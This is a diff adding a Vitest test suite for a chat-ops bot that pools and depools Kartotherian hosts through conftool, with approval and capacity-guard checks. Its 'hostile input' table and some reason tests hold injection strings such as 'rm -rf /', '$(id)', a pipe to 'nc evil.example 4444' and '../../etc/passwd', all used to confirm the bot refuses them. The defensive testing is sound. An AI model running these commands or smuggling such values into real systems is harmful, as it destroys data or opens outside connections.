@@ -1,0 +1,594 @@
+import { describe, expect, it } from 'vitest';
+import { createDispatcher } from '../../commands/dispatch.js';
+import { buildRegistry } from '../../commands/registry.js';
+import type { Config } from '../../config/schema.js';
+import type { Caller } from '../../core/access.js';
+import { conftoolPath } from '../../core/actions.js';
+import type { Inventory } from '../../core/inventory.js';
+import type { PoolState } from '../../core/pool-state.js';
+import { loadShippedConfig, shippedInventories } from '../helpers/config.js';
+import { callerFor, FakePooling, makeDeps } from '../helpers/fakes.js';
+
+const shipped = await loadShippedConfig();
+
+const K = '!kartotherian';
+const k8sPool = { lvsService: 'kartotherian-k8s-ssl', dc: 'eqiad', cluster: 'maps', conftoolService: 'kartotherian-k8s-ssl' };
+const sslPool = { lvsService: 'kartotherian-ssl', dc: 'eqiad', cluster: 'maps', conftoolService: 'kartotherian-ssl' };
+const WORKER_PATH = '/conftool/v1/pools/eqiad/maps/kartotherian-k8s-ssl/wikikube-worker1001.eqiad.wmnet';
+
+/** A dispatcher over fakes; `say(person, line)` types a line as a configured person (or a stranger). */
+function setup(options: { config?: Config; edit?: (config: Config) => void } = {}) {
+  const config = structuredClone(options.config ?? shipped);
+  options.edit?.(config);
+  const inventories: ReadonlyMap<string, Inventory> = shippedInventories(config);
+  const fakes = makeDeps(config, inventories);
+  const unexpected: unknown[] = [];
+  const dispatch = createDispatcher({ config, inventories, deps: fakes.deps, onUnexpectedError: (error) => unexpected.push(error) });
+  const say = (person: string | undefined, text: string, overrides: Partial<Caller> = {}) => dispatch({ text, caller: callerFor(person, overrides) });
+  return { ...fakes, config, unexpected, dispatch, say };
+}
+
+/** Everything that would change the world: request store, queue, pool writes. */
+function sideEffects(world: ReturnType<typeof setup>) {
+  return { created: world.requests.created.length, queue: world.queue.calls.length, writes: world.pooling.writes.length };
+}
+
+describe('dispatch: routing', () => {
+  it('ignores a line that does not start with !', async () => {
+    const world = setup();
+    expect(await world.say('alice', 'kartotherian pool wikikube1001')).toBeUndefined();
+    expect(await world.say('alice', 'hey !kartotherian pool wikikube1001')).toBeUndefined();
+    expect(await world.say('alice', '')).toBeUndefined();
+  });
+
+  it("stays quiet for another bot's commands", async () => {
+    const world = setup();
+    expect(await world.say('alice', '!otherbot foo')).toBeUndefined();
+    expect(await world.say('alice', '!status')).toBeUndefined();
+    expect(await world.say('alice', '!help')).toBeUndefined();
+    expect(world.audit.entries).toEqual([]);
+  });
+
+  it('takes the service name in any case and with leading spaces', async () => {
+    const world = setup();
+    expect(await world.say('alice', `   !KARTOTHERIAN STATUS`)).toMatch(/^kartotherian · pool state/);
+  });
+
+  it('answers an unknown command with a pointer to help, echoing it cut short', async () => {
+    const world = setup();
+    expect(await world.say('alice', `${K} frobnicate`)).toBe('✖ No command "frobnicate"; try !kartotherian help.');
+    const long = await world.say('alice', `${K} ${'x'.repeat(100)}`);
+    expect(long).toMatch(/^✖ No command "x{30}…"/);
+  });
+
+  // Bug: commands/dispatch.ts tests `head in config.services`, which is true for
+  // Object.prototype members, so cutover answers `!constructor` as if it were a service.
+  it.fails('stays quiet for !constructor, which is not a service', async () => {
+    const world = setup();
+    expect(await world.say('alice', '!constructor')).toBeUndefined();
+  });
+
+  it.fails('stays quiet for !constructor pool maps1005 instead of failing inside', async () => {
+    const world = setup();
+    expect(await world.say('alice', '!constructor pool maps1005')).toBeUndefined();
+    expect(world.unexpected).toEqual([]);
+  });
+});
+
+describe('dispatch: help', () => {
+  it('lists every command with its usage', async () => {
+    const world = setup();
+    const reply = (await world.say('dave', `${K} help`)) ?? '';
+    const lines = reply.split('\n');
+    expect(lines[0]).toBe('!kartotherian commands (HOST may be short: wikikube1001, maps1005):');
+    for (const spec of buildRegistry().values()) {
+      const prefix = spec.scope === 'request' ? '!' : `${K} `;
+      expect(lines).toContain(`${prefix}${spec.usage} — ${spec.summary}`);
+    }
+    expect(lines).toHaveLength(1 + buildRegistry().size);
+    for (const name of ['status', 'pool', 'depool', 'approve', 'deny', 'jobs', 'help']) expect(reply).toContain(name);
+  });
+
+  it('is what the bare service name shows', async () => {
+    const world = setup();
+    expect(await world.say(undefined, K)).toBe(await world.say(undefined, `${K} help`));
+  });
+
+  it('explains one command, flagging the ones that change production', async () => {
+    const world = setup();
+    expect(await world.say('dave', `${K} help pool`)).toMatch(/^!kartotherian pool HOST .* \(changes production: approval, lock, audit\)$/);
+    expect(await world.say('dave', `${K} help status`)).not.toContain('changes production');
+  });
+});
+
+describe('dispatch: pool', () => {
+  it('files a pending request for alice, schedules its expiry and names the other approvers', async () => {
+    const world = setup();
+    const reply = (await world.say('alice', `${K} pool wikikube1001 step 4 of T378944`)) ?? '';
+
+    expect(world.requests.created).toHaveLength(1);
+    const request = world.requests.created[0];
+    expect(request).toMatchObject({
+      service: 'kartotherian',
+      state: 'pending',
+      reason: 'step 4 of T378944',
+      requester: { person: 'alice', transport: 'irc', channel: '#wikimedia-operations' },
+      approvalsRequired: 1,
+      approvals: [],
+      action: { kind: 'set-pooled', verb: 'pool', fqdn: 'wikikube-worker1001.eqiad.wmnet', pool: k8sPool, changes: { pooled: 'yes', weight: 10 } },
+      createdAt: world.clock.now(),
+      expiresAt: world.clock.now() + 900_000,
+    });
+    expect(world.queue.calls.map((call) => [call.method, call.request.id])).toEqual([['scheduleExpiry', request?.id]]);
+    expect(world.pooling.writes).toEqual([]);
+
+    expect(reply).toMatch(/^⏳ req1: alice asks to pool wikikube-worker1001\.eqiad\.wmnet into kartotherian-k8s-ssl \(eqiad\) at weight 10, now pooled=inactive weight=0/);
+    expect(reply).toContain('!approve req1 or !deny req1');
+    expect(reply).toContain('expires in 15m (12:15 UTC)');
+    const approvers = /needs 1 approval from (.*?):/.exec(reply)?.[1];
+    expect(approvers).toBe('bob or carol');
+    expect(world.audit.events()).toEqual(['request.created', 'command']);
+    expect(world.audit.entries[0]).toMatchObject({ who: 'alice', where: 'irc:#wikimedia-operations', requestId: 'req1' });
+    expect(world.audit.entries[0]?.detail).toContain(`${WORKER_PATH}: {"pooled":"inactive","weight":0} → {"pooled":"yes","weight":10}`);
+  });
+
+  it('leaves the requester out of the approvers, whoever asks', async () => {
+    const world = setup();
+    const reply = await world.say('bob', `${K} pool wikikube1002`);
+    expect(reply).toContain('needs 1 approval from carol:');
+  });
+
+  it('records the task and says "no reason given" when there is none', async () => {
+    const world = setup();
+    const reply = await world.say('alice', `${K} pool wikikube1001 --task T378944 --weight 5`);
+    expect(world.requests.created[0]).toMatchObject({ reason: 'no reason given', task: 'T378944', action: { changes: { pooled: 'yes', weight: 5 } } });
+    expect(reply).toContain('no reason given (T378944)');
+  });
+
+  it('keeps shell metacharacters in a reason as inert text', async () => {
+    const world = setup();
+    await world.say('alice', `${K} pool wikikube1001 $(rm -rf /); echo pwned | sh`);
+    expect(world.requests.created[0]?.reason).toBe('$(rm -rf /); echo pwned | sh');
+    expect(world.pooling.writes).toEqual([]);
+  });
+
+  it('with --dry-run creates nothing and shows the exact conftool write', async () => {
+    const world = setup();
+    const reply = (await world.say('alice', `${K} pool wikikube1001 --dry-run`)) ?? '';
+    expect(reply).toBe(
+      'dry-run, nothing changed · would pool wikikube-worker1001.eqiad.wmnet into kartotherian-k8s-ssl (eqiad) at weight 10 · ' +
+        `write ${WORKER_PATH}: {"pooled":"inactive","weight":0} → {"pooled":"yes","weight":10} then read it back · needs 1 approval from bob or carol`,
+    );
+    expect(sideEffects(world)).toEqual({ created: 0, queue: 0, writes: 0 });
+    expect(world.pooling.peek(WORKER_PATH)).toEqual({ pooled: 'inactive', weight: 0 });
+  });
+
+  it('says there is nothing to do for a host that is already pooled, and files nothing', async () => {
+    const world = setup();
+    const reply = await world.say('alice', `${K} pool maps1005 --service kartotherian-ssl`);
+    expect(reply).toBe('maps1005 is already pooled=yes weight=10 in kartotherian-ssl (eqiad); nothing to do.');
+    expect(sideEffects(world)).toEqual({ created: 0, queue: 0, writes: 0 });
+  });
+
+  it('files a weight change for a pooled host', async () => {
+    const world = setup();
+    await world.say('alice', `${K} pool maps1005 --service kartotherian-ssl --weight 20`);
+    expect(world.requests.created[0]?.action).toMatchObject({ changes: { pooled: 'yes', weight: 20 } });
+  });
+
+  it('refuses a host the pool has no conftool object for', async () => {
+    const world = setup();
+    const path = conftoolPath(k8sPool, 'wikikube-worker1004.eqiad.wmnet');
+    const seeded = new FakePooling();
+    for (const fqdn of ['wikikube-worker1001.eqiad.wmnet']) seeded.put(conftoolPath(k8sPool, fqdn), { pooled: 'inactive', weight: 0 });
+    const dispatch = createDispatcher({ config: world.config, inventories: shippedInventories(world.config), deps: { ...world.deps, pooling: seeded }, onUnexpectedError: () => undefined });
+    const reply = await dispatch({ text: `${K} pool wikikube1004`, caller: callerFor('alice') });
+    expect(reply).toBe(`✖ ${path.split('/').at(-1) ?? ''} has no conftool object in kartotherian-k8s-ssl (eqiad); conftool-data in puppet has to add it (as inactive) first.`);
+  });
+
+  it('queues at once when the service needs no approval', async () => {
+    const world = setup({ edit: (config) => void Object.assign(config.services.kartotherian?.approval ?? {}, { approvers_required: 0 }) });
+    const reply = await world.say('alice', `${K} pool wikikube1001`);
+    expect(reply).toMatch(/^▶ req1 queued: pool wikikube-worker1001/);
+    expect(world.requests.created[0]?.state).toBe('approved');
+    expect(world.queue.calls.map((call) => call.method)).toEqual(['enqueue']);
+  });
+
+  it('refuses when not enough other people could approve', async () => {
+    const world = setup({ edit: (config) => void Object.assign(config.services.kartotherian?.approval ?? {}, { approvers_required: 3 }) });
+    const reply = await world.say('alice', `${K} pool wikikube1001`);
+    expect(reply).toBe('✖ Nobody but you can approve this on kartotherian; the config needs 3 other approver(s).');
+    expect(sideEffects(world)).toEqual({ created: 0, queue: 0, writes: 0 });
+  });
+
+  it('requires a reason when the service says so', async () => {
+    const world = setup({ edit: (config) => void Object.assign(config.services.kartotherian?.approval ?? {}, { require_reason: true }) });
+    expect(await world.say('alice', `${K} pool wikikube1001`)).toBe('✖ A reason is required: pool wikikube-worker1001 <reason> [--task T123456].');
+    expect(await world.say('alice', `${K} pool wikikube1001 "   "`)).toMatch(/^✖ A reason is required/);
+    expect(world.requests.created).toEqual([]);
+    expect(await world.say('alice', `${K} pool wikikube1001 new workers`)).toMatch(/^⏳ req1/);
+  });
+
+  // Bug: pool/depool have both a `reason` rest positional and a --reason flag; commands/bind.ts
+  // lets the trailing words overwrite the flag, so "planned work" silently vanishes from the
+  // request and the audit log.
+  it.fails('does not silently drop a --reason when trailing words follow', async () => {
+    const world = setup();
+    await world.say('alice', `${K} pool wikikube1001 --reason "planned work" extra`);
+    for (const request of world.requests.created) expect(request.reason).toContain('planned work');
+  });
+});
+
+describe('dispatch: depool and the capacity guard', () => {
+  it('files depools of maps hosts one by one in a 6-host pool until the 4th would break the threshold', async () => {
+    const world = setup();
+    const replies: string[] = [];
+    for (const host of ['maps1005', 'maps1006', 'maps1007', 'maps1008']) {
+      const reply = (await world.say('alice', `${K} depool ${host} --service kartotherian-ssl`)) ?? '';
+      replies.push(reply);
+      // The request ran: conftool now holds what it asked for.
+      if (reply.startsWith('⏳')) world.pooling.put(conftoolPath(sslPool, `${host}.eqiad.wmnet`), { pooled: 'no', weight: 10 });
+    }
+    expect(replies.slice(0, 3).every((reply) => reply.startsWith('⏳'))).toBe(true);
+    expect(replies[3]).toBe(
+      '✖ Refused: depool maps1008 would leave 2 of 6 hosts pooled in kartotherian-ssl (eqiad); depool_threshold 0.5 needs at least 3. Pool another host first.',
+    );
+    expect(world.requests.created).toHaveLength(3);
+    expect(world.requests.created.map((request) => request.action)).toEqual(
+      ['maps1005', 'maps1006', 'maps1007'].map((host) => expect.objectContaining({ verb: 'depool', fqdn: `${host}.eqiad.wmnet`, changes: { pooled: 'no' } })),
+    );
+    expect(world.pooling.calls.filter((call) => call.method === 'listPool')).toHaveLength(4);
+  });
+
+  it('does not count inactive workers: the k8s pool in eqiad has 6 members, not 10', async () => {
+    const world = setup();
+    for (const host of ['maps1005', 'maps1006', 'maps1007']) world.pooling.put(conftoolPath(k8sPool, `${host}.eqiad.wmnet`), { pooled: 'no', weight: 10 });
+    expect(await world.say('alice', `${K} depool maps1008 --service kartotherian-k8s-ssl`)).toMatch(/^✖ Refused: .* 2 of 6 hosts .* at least 3\./);
+  });
+
+  it('refuses even a dry run of an unsafe depool', async () => {
+    const world = setup();
+    for (const host of ['maps2005', 'maps2006', 'maps2007']) world.pooling.put(conftoolPath({ ...sslPool, dc: 'codfw' }, `${host}.codfw.wmnet`), { pooled: 'no', weight: 10 });
+    expect(await world.say('alice', `${K} depool maps2008 --service kartotherian-ssl --dry-run`)).toMatch(/^✖ Refused/);
+  });
+
+  it('says there is nothing to do for a host that is already depooled', async () => {
+    const world = setup();
+    world.pooling.put(conftoolPath(sslPool, 'maps1005.eqiad.wmnet'), { pooled: 'no', weight: 10 });
+    expect(await world.say('alice', `${K} depool maps1005 --service kartotherian-ssl`)).toBe('maps1005 is already pooled=no weight=10 in kartotherian-ssl (eqiad); nothing to do.');
+    expect(world.requests.created).toEqual([]);
+  });
+
+  // Bug: commands/request-pool-change.ts only runs the guard when reducesCapacity() (before was
+  // pooled=yes). Depooling an *inactive* host writes pooled=no, which adds it to pybal's total
+  // without adding capacity, and can leave the pool below depool_threshold. Here 3 maps are yes
+  // and 3 no (exactly at the floor, 3 of 6); depooling an inactive worker makes it 3 of 7 with a
+  // floor of 4. It should be refused, or be a no-op ("not in the pool"), not filed.
+  it.fails('does not file a depool of an inactive host that would push the pool under the threshold', async () => {
+    const world = setup();
+    for (const host of ['maps1005', 'maps1006', 'maps1007']) world.pooling.put(conftoolPath(k8sPool, `${host}.eqiad.wmnet`), { pooled: 'no', weight: 10 });
+    await world.say('alice', `${K} depool wikikube1001`);
+    expect(world.requests.created).toEqual([]);
+  });
+});
+
+describe('dispatch: who may do what', () => {
+  it.each([
+    ['a viewer', 'dave', 'dave'],
+    ['someone the config does not know', undefined, 'mallory'],
+  ])('refuses %s a pool and audits command.refused', async (_who, person, display) => {
+    const world = setup();
+    const reply = await world.say(person, `${K} pool wikikube1001`, { display });
+    expect(reply).toBe(`✖ ${display} may not run "pool" on kartotherian (needs the request right).`);
+    expect(sideEffects(world)).toEqual({ created: 0, queue: 0, writes: 0 });
+    expect(world.audit.entries).toEqual([
+      { event: 'command.refused', service: 'kartotherian', who: display, where: 'irc:#wikimedia-operations', detail: '!kartotherian pool wikikube1001' },
+    ]);
+  });
+
+  it('refuses an approver-only person a pool', async () => {
+    const world = setup();
+    expect(await world.say('carol', `${K} depool maps1005 --service kartotherian`)).toMatch(/^✖ carol may not run "depool"/);
+  });
+
+  it('checks the right before parsing, so a refused person learns nothing about hosts', async () => {
+    const world = setup();
+    expect(await world.say('dave', `${K} pool no-such-host`)).toMatch(/^✖ dave may not run "pool"/);
+  });
+
+  it('lets anyone run status when read_only is anyone', async () => {
+    const world = setup();
+    const reply = (await world.say(undefined, `${K} status`, { display: 'mallory' })) ?? '';
+    expect(reply.split('\n')).toEqual([
+      'kartotherian · pool state from fake conftool',
+      'eqiad kartotherian:6533 — pooled 6, depooled 0, inactive 0 · may lose 3 (floor 3/6) | yes w10: maps[1005-1010]',
+      'eqiad kartotherian-ssl:443 — pooled 6, depooled 0, inactive 0 · may lose 3 (floor 3/6) | yes w10: maps[1005-1010]',
+      'eqiad kartotherian-k8s-ssl:6543 — pooled 6, depooled 0, inactive 4 · may lose 3 (floor 3/6) | yes w10: maps[1005-1010] | inactive: wikikube-worker[1001-1004]',
+      'codfw kartotherian:6533 — pooled 6, depooled 0, inactive 0 · may lose 3 (floor 3/6) | yes w10: maps[2005-2010]',
+      'codfw kartotherian-ssl:443 — pooled 6, depooled 0, inactive 0 · may lose 3 (floor 3/6) | yes w10: maps[2005-2010]',
+      'codfw kartotherian-k8s-ssl:6543 — pooled 6, depooled 0, inactive 4 · may lose 3 (floor 3/6) | yes w10: maps[2005-2010] | inactive: wikikube-worker[2001-2004]',
+      'lock: free',
+      'waiting: nothing',
+    ]);
+    expect(world.audit.entries).toEqual([]);
+  });
+
+  it('refuses status to strangers when read_only is configured', async () => {
+    const world = setup({ edit: (config) => void (config.access.read_only = 'configured') });
+    expect(await world.say(undefined, `${K} status`, { display: 'mallory' })).toBe('✖ mallory may not run "status" on kartotherian (needs the read right).');
+    expect(await world.say('dave', `${K} status --dc codfw --service kartotherian`)).toMatch(/^kartotherian · pool state/);
+  });
+
+  it('shows the lock and what is waiting in status', async () => {
+    const world = setup();
+    await world.say('alice', `${K} pool wikikube1001`);
+    world.locks.held.set('kartotherian', { holder: 'worker-1', requestId: 'req0', since: world.clock.now() - 90_000 });
+    world.clock.advance(60_000);
+    const reply = (await world.say('dave', `${K} status --dc eqiad --service kartotherian-k8s-ssl`)) ?? '';
+    expect(reply.split('\n').slice(-2)).toEqual([
+      'lock: held by req0 (worker-1) for 3m',
+      'waiting: req1 pool wikikube-worker1001.eqiad.wmnet into kartotherian-k8s-ssl (eqiad) at weight 10 · alice · needs 1 approval, expires in 14m',
+    ]);
+  });
+
+  // Bug: core/inventory.ts lvsService() indexes a plain object, so `--service constructor`
+  // (a valid slug) finds Object.prototype.constructor and crashes with a TypeError.
+  it.fails.each([`${K} pool maps1005 --service constructor`, `${K} status --service constructor`])('refuses %j as an unknown LVS service', async (line) => {
+    const world = setup();
+    expect(await world.say('alice', line)).toMatch(/^✖ Unknown LVS service "constructor"/);
+    expect(world.unexpected).toEqual([]);
+  });
+});
+
+describe('dispatch: approve and deny', () => {
+  async function withRequest(requester = 'alice') {
+    const world = setup();
+    const reply = (await world.say(requester, `${K} pool wikikube1001 new capacity`)) ?? '';
+    expect(reply).toMatch(/^⏳ req1:/);
+    return world;
+  }
+
+  it('!approve by bob approves the one waiting request and queues it', async () => {
+    const world = await withRequest();
+    world.clock.advance(30_000);
+    const reply = await world.say('bob', '!approve');
+    expect(reply).toBe('👍 bob approved req1 (1/1) · queued: pool wikikube-worker1001.eqiad.wmnet into kartotherian-k8s-ssl (eqiad) at weight 10');
+    expect(world.queue.enqueued.map((request) => [request.id, request.state])).toEqual([['req1', 'approved']]);
+    expect((await world.requests.get('req1'))?.approvals).toEqual([{ person: 'bob', display: 'bob', transport: 'irc', at: world.clock.now() }]);
+    expect(world.audit.events()).toContain('approval.granted');
+    expect(world.pooling.writes).toEqual([]);
+  });
+
+  it('!approve ID works from another channel, and !kartotherian approve too', async () => {
+    const world = await withRequest();
+    expect(await world.say('carol', `${K} approve req1`, { transport: 'slack', channel: 'C0SRE' })).toMatch(/^👍 carol approved req1/);
+    expect(world.queue.enqueued).toHaveLength(1);
+  });
+
+  it('refuses alice approving her own request, and queues nothing', async () => {
+    const world = await withRequest();
+    expect(await world.say('alice', '!approve')).toBe('✖ alice may not approve changes to kartotherian.');
+    expect(world.queue.enqueued).toEqual([]);
+    expect((await world.requests.get('req1'))?.state).toBe('pending');
+    expect(world.audit.entries.at(-1)).toMatchObject({ event: 'approval.refused', requestId: 'req1', detail: 'not an approver' });
+  });
+
+  it('refuses an approver approving their own request, even from another transport', async () => {
+    const world = await withRequest('bob');
+    const reply = await world.say('bob', '!approve req1', { transport: 'slack', display: 'Bob B.', channel: 'C0SRE' });
+    expect(reply).toBe('✖ You asked for req1; someone else has to approve it.');
+    expect(world.queue.enqueued).toEqual([]);
+    expect((await world.requests.get('req1'))?.state).toBe('pending');
+    expect(world.audit.entries.at(-1)).toMatchObject({ event: 'approval.refused', who: 'bob', where: 'slack:C0SRE' });
+  });
+
+  it('refuses someone the config does not know, even with an approver’s nick', async () => {
+    const world = await withRequest();
+    expect(await world.say(undefined, '!approve req1', { display: 'bob' })).toBe('✖ bob may not approve changes to kartotherian.');
+    expect(world.queue.enqueued).toEqual([]);
+  });
+
+  it('refuses a second approval of an approved request', async () => {
+    const world = await withRequest();
+    await world.say('bob', '!approve req1');
+    expect(await world.say('carol', '!approve req1')).toBe('✖ Request req1 is already approved.');
+    expect(world.queue.enqueued).toHaveLength(1);
+  });
+
+  it('marks a request expired when someone approves it too late', async () => {
+    const world = await withRequest();
+    world.clock.advance(900_000);
+    expect(await world.say('bob', '!approve req1')).toBe('✖ Request req1 expired; nothing was changed.');
+    expect((await world.requests.get('req1'))?.state).toBe('expired');
+    expect(world.queue.enqueued).toEqual([]);
+  });
+
+  it('asks which request when several wait in the channel', async () => {
+    const world = await withRequest();
+    await world.say('alice', `${K} pool wikikube1002`);
+    expect(await world.say('bob', '!approve')).toBe('✖ 2 requests are waiting (req1, req2); say which one.');
+    expect(await world.say('bob', '!approve #REQ2')).toMatch(/^👍 bob approved req2/);
+  });
+
+  it('says so when nothing waits, or the id is unknown', async () => {
+    const world = setup();
+    expect(await world.say('bob', '!approve')).toBe('✖ Nothing here is waiting for approval.');
+    expect(await world.say('bob', '!approve zzzz')).toBe('✖ There is no request zzzz. Recent ones: !kartotherian jobs');
+  });
+
+  it('!deny by the requester withdraws the request', async () => {
+    const world = await withRequest();
+    const reply = await world.say('alice', '!deny');
+    expect(reply).toBe('↩ withdrawn req1 by alice: pool wikikube-worker1001.eqiad.wmnet into kartotherian-k8s-ssl (eqiad) at weight 10. Nothing was changed.');
+    expect(await world.requests.get('req1')).toMatchObject({ state: 'denied', decidedBy: { person: 'alice' } });
+    expect(world.audit.events()).toContain('request.withdrawn');
+    expect(world.queue.enqueued).toEqual([]);
+  });
+
+  it('!deny by an approver denies, with the reason', async () => {
+    const world = await withRequest();
+    expect(await world.say('carol', '!deny req1 not during the switchover')).toBe(
+      '👎 denied req1 by carol (not during the switchover): pool wikikube-worker1001.eqiad.wmnet into kartotherian-k8s-ssl (eqiad) at weight 10. Nothing was changed.',
+    );
+    expect(world.audit.events()).toContain('request.denied');
+    expect(await world.say('bob', '!approve req1')).toBe('✖ Request req1 is already denied.');
+  });
+
+  it("refuses !deny from a viewer of someone else's request", async () => {
+    const world = await withRequest();
+    expect(await world.say('dave', '!deny req1')).toBe('✖ dave may not deny changes to kartotherian.');
+    expect((await world.requests.get('req1'))?.state).toBe('pending');
+  });
+
+  it('lists requests in jobs', async () => {
+    const world = await withRequest();
+    await world.say('bob', '!approve');
+    world.clock.advance(120_000);
+    expect(await world.say('dave', `${K} jobs`)).toBe(
+      '▶ req1 approved 2m ago · pool wikikube-worker1001.eqiad.wmnet into kartotherian-k8s-ssl (eqiad) at weight 10 · alice, approved by bob',
+    );
+  });
+});
+
+describe('dispatch: replies never carry a Slack broadcast', () => {
+  // Bug: printable() strips `<` and `>` so an echo can never become `<!channel>`, but these
+  // replies echo user text without it: help.ts (unknown command name), request-pool-change.ts
+  // (the reason in the ⏳ line) and deny.ts (the reason in the 👎 line).
+  it.fails('!kartotherian help <!channel>', async () => {
+    const world = setup();
+    expect(await world.say('alice', `${K} help <!channel>`)).not.toContain('<!channel>');
+  });
+
+  it.fails('a pool reason of <!channel>', async () => {
+    const world = setup();
+    expect(await world.say('alice', `${K} pool wikikube1001 <!channel> look`)).not.toContain('<!channel>');
+  });
+
+  it.fails('a deny reason of <!here>', async () => {
+    const world = setup();
+    await world.say('alice', `${K} pool wikikube1001`);
+    expect(await world.say('carol', '!deny req1 <!here>')).not.toContain('<!here>');
+  });
+});
+
+describe('dispatch: unexpected failures', () => {
+  it('turns a failing backend into a short reply and hands the error to the log', async () => {
+    class BrokenPooling extends FakePooling {
+      override async get(): Promise<undefined> {
+        throw new Error('ECONNREFUSED 10.64.0.1:2379');
+      }
+    }
+    const world = setup();
+    const errors: unknown[] = [];
+    const dispatch = createDispatcher({
+      config: world.config,
+      inventories: shippedInventories(world.config),
+      deps: { ...world.deps, pooling: new BrokenPooling() },
+      onUnexpectedError: (error) => errors.push(error),
+    });
+    const reply = await dispatch({ text: `${K} pool wikikube1001`, caller: callerFor('alice') });
+    expect(reply).toBe('✖ Something failed inside cutover; it is in the bot log. Check !status before retrying.');
+    expect(reply).not.toContain('10.64.0.1');
+    expect(errors).toHaveLength(1);
+  });
+});
+
+describe('dispatch: hostile input', () => {
+  // eslint-disable-next-line no-control-regex -- looking for control characters is the point
+  const UNPRINTABLE = /[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/;
+  const longReason = `$(rm -rf /) ${'because '.repeat(36)}`.trim();
+
+  const hostile: [label: string, line: string][] = [
+    ['shell command in host', `${K} pool maps1005;rm -rf /`],
+    ['command substitution host', `${K} pool $(whoami)`],
+    ['backticks host', `${K} pool \`reboot\``],
+    ['pipe in host', `${K} pool maps1005|nc evil.example 4444`],
+    ['shell in --service', `${K} pool wikikube1001 --service 'kartotherian-k8s-ssl;reboot'`],
+    ['substitution in --service=', `${K} pool wikikube1001 --service=$(id)`],
+    ['path in --service', `${K} pool wikikube1001 --service '../../x'`],
+    ['--weight 0', `${K} pool wikikube1001 --weight 0`],
+    ['--weight 1e9', `${K} pool wikikube1001 --weight 1e9`],
+    ['--weight -1', `${K} pool wikikube1001 --weight -1`],
+    ['--weight NaN', `${K} pool wikikube1001 --weight NaN`],
+    ['--weight 2.5', `${K} pool wikikube1001 --weight 2.5`],
+    ['--task T12;rm', `${K} pool wikikube1001 --task 'T12;rm'`],
+    ['--task with two tasks', `${K} pool wikikube1001 --task 'T1 T2'`],
+    ['--task too long', `${K} pool wikikube1001 --task T123456789`],
+    ['300-char reason with shell in it', `${K} pool wikikube1001 "${longReason}"`],
+    ['300-char --reason', `${K} depool wikikube1001 --reason '${'x'.repeat(300)}'`],
+    ['10 kB line', `${K} pool ${'maps1005'.repeat(1250)}`],
+    ['10 kB of spaces', `${K} pool${' '.repeat(10_000)}wikikube1001`],
+    ['NUL', `${K} pool maps1005\u0000 --service kartotherian-ssl`],
+    ['IRC colour codes', `${K} pool \u00034,1maps1005\u0003`],
+    ['CTCP', `${K} pool wikikube1001 \u0001ACTION waves\u0001`],
+    ['bidi override', `${K} pool wikikube1001 \u202eT378944`],
+    ['bidi override in the command', `${K} \u202epool wikikube1001`],
+    ['zero-width space', `${K} pool wiki\u200bkube1001`],
+    ['newline injection', `${K} pool maps1005\r\nPRIVMSG #wikimedia-operations :hi`],
+    ['bare newline', `${K} pool wikikube1001\n!approve`],
+    ['Cyrillic look-alike host', `${K} pool m\u0430ps1005 --service kartotherian-ssl`],
+    ['fullwidth digits', `${K} pool wikikube\uff11\uff10\uff10\uff11`],
+    ['emoji host', `${K} pool \u{1F5FA}\uFE0F1005`],
+    ['@channel host', `${K} pool @channel`],
+    ['<!channel> host', `${K} pool <!channel>`],
+    ['Slack user mention host', `${K} pool <@U01BOB000>`],
+    ['unknown flag', `${K} pool wikikube1001 --exec 'rm -rf /'`],
+    ['value on a boolean', `${K} pool wikikube1001 --dry-run=false`],
+    ['flag twice', `${K} pool wikikube1001 --service kartotherian-k8s-ssl --service=kartotherian`],
+    ['flag with no value', `${K} pool wikikube1001 --weight`],
+    ['missing host', `${K} pool`],
+    ['path traversal host', `${K} pool ../../etc/passwd`],
+    ['foreign domain', `${K} pool maps1005.eqiad.wmnet.evil.example --service kartotherian-ssl`],
+    ['two hosts in one word', `${K} pool 'maps1005 maps1006' --service kartotherian-ssl`],
+    ['option as host', `${K} pool -rf`],
+    ['too many words', `${K} pool wikikube1001 ${'a '.repeat(45)}`],
+    ['unclosed quote', `${K} pool wikikube1001 "unclosed`],
+    ['worker in a maps-only pool', `${K} pool wikikube1001 --service kartotherian`],
+    ['maps host with no service', `${K} pool maps1005`],
+    ['weight on depool', `${K} depool maps1005 --service kartotherian --weight 0`],
+    ['shell in --dc', `${K} status --dc 'eqiad;reboot'`],
+    ['huge --limit', `${K} jobs --limit 1e9`],
+    ['long help topic', `${K} help ${'x'.repeat(40)}`],
+    ['shell command as command', `${K} rm -rf /`],
+    ['substitution as request id', '!approve $(id)'],
+    ['path as request id', '!deny ../../k7qm'],
+    ['IRC colour in a deny', '!deny k7qm \u0003 nope'],
+  ];
+
+  it('has at least 25 cases', () => {
+    expect(hostile.length).toBeGreaterThanOrEqual(25);
+  });
+
+  it.each(hostile)('refuses %s with a short, clean reply and no side effect', async (_label, line) => {
+    const world = setup();
+    const reply = await world.say('alice', line);
+    expect(reply).toBeDefined();
+    expect(reply?.startsWith('✖ ')).toBe(true);
+    expect(reply).not.toMatch(UNPRINTABLE);
+    expect(reply).not.toContain('<!');
+    expect(reply?.length).toBeLessThanOrEqual(500);
+    expect(world.unexpected).toEqual([]);
+    expect(world.pooling.writes).toEqual([]);
+    expect(world.queue.calls).toEqual([]);
+    expect(world.requests.created).toEqual([]);
+    expect(world.requests.updates).toEqual([]);
+  });
+
+  it('refuses the same lines from a person without any role, auditing nothing created', async () => {
+    for (const [, line] of hostile) {
+      const world = setup();
+      const reply = await world.say(undefined, line, { display: 'mallory' });
+      expect(reply?.startsWith('✖ '), line).toBe(true);
+      expect(sideEffects(world)).toEqual({ created: 0, queue: 0, writes: 0 });
+    }
+  });
+
+  it('leaves the pool exactly as seeded', async () => {
+    const world = setup();
+    const before = new Map<string, PoolState | undefined>(
+      [...shippedInventories(world.config).get('kartotherian')?.hosts ?? []].map((host) => [host.fqdn, world.pooling.peek(conftoolPath(k8sPool, host.fqdn))]),
+    );
+    for (const [, line] of hostile) await world.say('alice', line);
+    for (const [fqdn, state] of before) expect(world.pooling.peek(conftoolPath(k8sPool, fqdn))).toEqual(state);
+  });
+});
